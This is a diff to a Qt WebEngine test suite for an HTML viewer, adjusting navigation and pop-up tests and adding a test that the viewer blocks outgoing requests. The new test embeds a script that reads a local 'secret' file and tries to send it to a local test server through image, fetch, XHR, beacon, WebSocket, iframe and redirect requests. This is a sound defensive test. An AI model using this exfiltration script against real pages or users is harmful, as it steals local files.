@@ -9,11 +9,13 @@
 #include <QPrinter>
 #include <QSignalSpy>
 #include <QTcpServer>
+#include <QTcpSocket>
 #include <QTemporaryDir>
 #include <QTest>
 #include <QTimer>
 #include <QWebEngineFindTextResult>
 #include <QWebEnginePage>
+#include <QWebEngineSettings>
 #include <QWebEngineView>
 
 #include <algorithm>
@@ -203,9 +205,11 @@ void TestHtmlView::guardDecidesNavigation()
         QCOMPARE(m_view->locationUrl(), QUrl::fromLocalFile(b).toString(QUrl::FullyEncoded));
         return;
     }
-    // The engine reports the refused link, and the file it would only download, as a load
-    // that ended; the view reports no completed document, as the chapter stays shown.
-    QVERIFY(engineFinished.count() || engineFinished.wait(kLoadTimeout));
+    // A link out of the folder starts no load at all. The engine reports a file it would
+    // only download as a load that ended; the view reports no completed document, as the
+    // chapter stays shown.
+    if (target.isLocalFile())
+        QVERIFY(engineFinished.count() || engineFinished.wait(kLoadTimeout));
     QCOMPARE(completed.count(), 0);
     QCOMPARE(m_view->locationName(), QStringLiteral("a.htm"));
     QVERIFY(load(b));
@@ -219,13 +223,14 @@ void TestHtmlView::newWindowGoesToGuard_data()
     QTest::addColumn<bool>("loads");
     const QString web = QStringLiteral("http://www.knihy.example/titul/");
     QTest::newRow("target=_blank, web") << web << false << false;
+    // The page picks this address itself, though during a click: it goes nowhere.
     QTest::newRow("window.open, web") << web << true << false;
     QTest::newRow("target=_blank, chapter") << QStringLiteral("b.htm") << false << true;
 }
 
-// No window is ever opened. A click that asks for one hands its address to the guard,
-// and a target the guard lets through opens in the view itself, asking only once; the
-// page's own pop-up, opened without a click, never reaches the guard.
+// No window is ever opened. A click on a link that asks for one hands its address to
+// the guard, and a target the guard lets through opens in the view itself, asking only
+// once; a window the page opens itself, with or without a click, never reaches the guard.
 void TestHtmlView::newWindowGoesToGuard()
 {
     QFETCH(QString, href);
@@ -248,6 +253,13 @@ void TestHtmlView::newWindowGoesToGuard()
 
     QSignalSpy completed(m_view.get(), &HtmlView::documentComplete);
     QTest::mouseClick(m_view->engineView()->focusProxy(), Qt::LeftButton, {}, QPoint(50, 50));
+    if (byScript) {
+        // The click has been handled once a script run after it has.
+        QCOMPARE(js(QStringLiteral("1")).toInt(), 1);
+        QCOMPARE(asked.count(), 1);
+        QCOMPARE(shownWindows(), windows);
+        return;
+    }
     if (asked.count() < 2)
         QVERIFY(asked.wait(kLoadTimeout));
     QCOMPARE(asked.at(1).at(0).toUrl(), QUrl::fromLocalFile(m_dir->path() + QLatin1Char('/')).resolved(QUrl(href)));
@@ -513,17 +525,54 @@ void TestHtmlView::printToPdf()
 }
 
 // A chapter's pictures and style sheets on the web are not fetched: a server that never
-// answers would otherwise hold the load open.
+// answers would otherwise hold the load open. Nor can a chapter's script that reads a
+// local file send it anywhere, by any means a page has: the server gets no request.
+// The same page with the view's network block lifted and remote access allowed proves
+// that the server would have seen them.
 void TestHtmlView::remoteResourcesAreNotFetched()
 {
     QTcpServer server;
     QVERIFY(server.listen(QHostAddress::LocalHost));
+    QStringList requests;
+    connect(&server, &QTcpServer::newConnection, &server, [&] {
+        while (QTcpSocket* s = server.nextPendingConnection()) {
+            connect(s, &QTcpSocket::readyRead, s, [s, &requests] {
+                if (s->canReadLine())
+                    requests.append(QString::fromLatin1(s->readLine()).trimmed());
+                s->readAll();
+            });
+        }
+    });
     const QString base = QStringLiteral("http://127.0.0.1:%1/").arg(server.serverPort());
-    QVERIFY(load(writePage(QStringLiteral("a.htm"),
-        QStringLiteral("<img src=\"%1logo.gif\"><iframe src=\"%1ramec.htm\"></iframe>").arg(base),
-        QStringLiteral("<link rel=stylesheet href=\"%1tisk.css\">").arg(base))));
-    QCoreApplication::processEvents();
-    QVERIFY(!server.hasPendingConnections());
+    testfiles::write(m_dir->filePath(QStringLiteral("tajne.txt")), QByteArray("heslo"));
+    const auto page = [&](const QString& name, int run) {
+        const QString leak = QStringLiteral(
+            "<script>(function () {"
+            "var x = new XMLHttpRequest(); x.open('GET', 'tajne.txt', false); x.send(); var d = x.responseText;"
+            "var q = '%1x?run=%2&d=' + encodeURIComponent(d) + '&k=';"
+            "new Image().src = q + 'img';"
+            "var s = document.createElement('script'); s.src = q + 'script'; document.head.appendChild(s);"
+            "fetch(q + 'fetch', {mode: 'no-cors'}).catch(function () {});"
+            "try { var r = new XMLHttpRequest(); r.open('GET', q + 'xhr'); r.send(); } catch (e) {}"
+            "try { navigator.sendBeacon(q + 'beacon', d); } catch (e) {}"
+            "try { new WebSocket(q.replace('http:', 'ws:') + 'ws'); } catch (e) {}"
+            "var f = document.createElement('iframe'); f.src = q + 'iframe'; document.documentElement.appendChild(f);"
+            "location.href = q + 'location';"
+            "document.title = 'odeslano:' + d;"
+            "})();</script>").arg(base).arg(run);
+        // First in the head: the style sheet from the silent server would hold it back.
+        return writePage(name, QStringLiteral("<img src=\"%1logo.gif\"><iframe src=\"%1ramec.htm\"></iframe>").arg(base),
+                         leak + QStringLiteral("<link rel=stylesheet href=\"%1tisk.css\">").arg(base));
+    };
+    QVERIFY(load(page(QStringLiteral("a.htm"), 1)));
+    QTRY_COMPARE_WITH_TIMEOUT(js(QStringLiteral("document.title")).toString(), QStringLiteral("odeslano:heslo"),
+                              kLoadTimeout);
+
+    m_view->engineView()->page()->setUrlRequestInterceptor(nullptr);
+    m_view->engineView()->page()->settings()->setAttribute(QWebEngineSettings::LocalContentCanAccessRemoteUrls, true);
+    m_view->navigate(page(QStringLiteral("b.htm"), 2)); // the silent server holds the load open
+    QTRY_VERIFY_WITH_TIMEOUT(requests.filter(QStringLiteral("run=2&d=heslo")).size() > 1, kLoadTimeout);
+    QCOMPARE(requests.filter(QStringLiteral("run=1")), QStringList());
 }
 
 void TestHtmlView::rendererCrashReloadsAtMostThreeTimes()
